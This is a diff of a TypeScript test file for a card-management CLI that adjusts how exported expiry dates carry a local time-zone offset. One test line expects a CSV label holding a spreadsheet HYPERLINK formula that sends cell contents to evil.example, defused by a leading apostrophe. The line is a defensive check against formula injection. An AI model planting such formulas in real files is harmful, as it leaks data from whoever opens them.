@@ -8,7 +8,7 @@ import { test } from 'node:test';
 import { errorText } from '../../locales/translate.ts';
 import { decodeCsvBytes } from '../../main/cards/csv-decode.ts';
 import { CsvReader, type CsvRecord, detectDelimiter } from '../../main/cards/csv-read.ts';
-import { endOfDay } from '../../main/cards/expiry-date.ts';
+import { endOfDay, localIso } from '../../main/cards/expiry-date.ts';
 import type { ImportPreview } from '../../main/cards/types.ts';
 import type { Core } from '../../main/core.ts';
 import { wbc, wbcBin } from '../support/cli.ts';
@@ -291,7 +291,7 @@ test('exports: plain re-imports to the same cards, a formula label is defused, S
   assert.equal(lines[0], 'uid,label,owner,group,valid_until');
   assert.equal(
     lines[1],
-    `04A1B2C3,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","'@Anna",Staff,2030-12-31T23:59:59.000Z`,
+    `04A1B2C3,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","'@Anna",Staff,${localIso('2030-12-31T23:59:59.000Z')}`,
   );
   assert.equal(lines[2], '04112233445566,"Pool; car",,,', 'quoted: German Excel splits at semicolons');
   assert.equal(lines[3]?.split(',')[1], `"'+49 170"`);
@@ -517,6 +517,9 @@ test('"31.12.2027" in a file and --valid-until 2027-12-31 store the same instant
   assert.match(enrolled, /A date means the end of that day \(23:59:59\) in Europe\/Berlin\./);
   const listed = await wbc([...data, '--json', 'cards', 'list'], env);
   const cards = JSON.parse(listed.stdout) as Array<{ uidHex: string; validUntil: string }>;
+  // The export states the day in the local zone, with its offset (the same instant for other tools).
+  const exported = await wbc([...data, 'cards', 'export'], env);
+  assert.match(exported.stdout, /^04A1B2C3,,,Staff,2027-12-31T23:59:59\+01:00\r?$/m);
   assert.deepEqual(cards.map((c) => [c.uidHex, c.validUntil]).sort(), [
     ['04A1B2C3', '2027-12-31T22:59:59.000Z'],
     ['04D5E6F7', '2027-12-31T22:59:59.000Z'],
